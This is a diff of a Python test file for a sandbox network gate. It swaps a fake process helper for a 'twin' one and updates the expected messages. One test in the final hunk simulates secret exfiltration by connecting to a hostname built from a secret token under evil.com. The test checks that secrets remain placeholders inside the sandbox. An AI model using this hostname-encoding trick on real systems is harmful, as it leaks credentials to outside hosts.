@@ -17,8 +17,9 @@ from skillyard.domain.secret import Delivery
 from skillyard.domain.skill.skill import Needs, SecretNeed
 from skillyard.domain.work.record import RunStatus
 from skillyard.engine.observer import Fault, NetworkUsed
+from skillyard.testing.twin_sandbox import Script, TwinProcess
 from tests.unit.engine.conftest import Rig
-from tests.unit.engine.fakes import FakeProcess, Script, a_skill, raises, result
+from tests.unit.engine.fakes import a_skill, raises, result
 from tests.unit.engine.network.fake_gate import PROXY, TRUST, FakeGate
 
 pytestmark = pytest.mark.anyio
@@ -35,7 +36,7 @@ def networked(*texts: str, name: str = "a.b", **needs: Any) -> Any:
 def connecting(gate: FakeGate, *targets: tuple[str, int], ends: bytes = result({})) -> Script:
     """A program that tries to reach ``targets``."""
 
-    async def script(process: FakeProcess) -> None:
+    async def script(process: TwinProcess) -> None:
         for host, port in targets:
             gate.last.connect(host, port, 10, 20)
         process.write(ends)
@@ -169,7 +170,7 @@ async def test_a_backend_without_the_ability_is_named_with_the_mend(rig: Rig) ->
         abilities = {} if why is None else {"egress": why}
         rig.app.backends.admit(rig.backend, replace(rig.extra["probe"], abilities=abilities))
         expected = "it has no namespaces; use native" if why else "the backend does not offer it"
-        said = f"(x.com), and isolation 'fake' cannot give it: {expected}"
+        said = f"(x.com), and isolation 'twin' cannot give it: {expected}"
         await refused(rig, said, name="a.b")
 
 
@@ -239,7 +240,7 @@ async def test_the_session_is_closed_after_the_sandbox_is_gone(rig: Rig) -> None
     rig.backend.destroy = noted  # type: ignore[method-assign]
     await rig.run()
     session = gate.last.id
-    assert gate.order == [f"open {session}", "destroy fake-1", f"close {session}"]
+    assert gate.order == [f"open {session}", "destroy twin-1", f"close {session}"]
 
 
 async def until(condition: Any) -> None:
@@ -248,7 +249,7 @@ async def until(condition: Any) -> None:
             await asyncio.sleep(0)
 
 
-async def waiting(process: FakeProcess) -> None:
+async def waiting(process: TwinProcess) -> None:
     await process.ended
 
 
@@ -290,7 +291,7 @@ async def test_a_gate_that_cannot_open_fails_the_run(rig: Rig) -> None:
 async def test_a_gate_that_dies_leaves_a_record_that_says_so(rig: Rig) -> None:
     gate = rig.with_network(run_code=rules("x.com"))
 
-    async def script(process: FakeProcess) -> None:
+    async def script(process: TwinProcess) -> None:
         gate.last.connect("x.com", 443)
         gate.down = True
         process.write(result({"ok": True}))
@@ -305,7 +306,7 @@ async def test_a_gate_that_dies_leaves_a_record_that_says_so(rig: Rig) -> None:
 async def test_a_gate_that_was_lost_says_so(rig: Rig) -> None:
     gate = rig.with_network(run_code=rules("x.com"))
 
-    async def script(process: FakeProcess) -> None:
+    async def script(process: TwinProcess) -> None:
         gate.last.connections.append(Connection("gate", "", 0, False, "gate", "", "the gate was lost: killed", 1))
         process.write(raises("ConnectionResetError", "[Errno 104] reset"))
 
@@ -350,7 +351,7 @@ async def test_a_gate_secret_is_a_placeholder_inside_and_a_value_at_the_gate(rig
     rig.skills.add(networked("api.x.com", secrets=(need, SecretNeed("PLAIN"))))
     await given(rig, TOKEN=SECRET, PLAIN="plain-value")
 
-    async def script(process: FakeProcess) -> None:
+    async def script(process: TwinProcess) -> None:
         process.log(f"{process.request['env']['TOKEN']} {SECRET}\n".encode())
         gate.last.connect(f"{SECRET.lower()}.evil.com", 443)
         process.write(result({}))
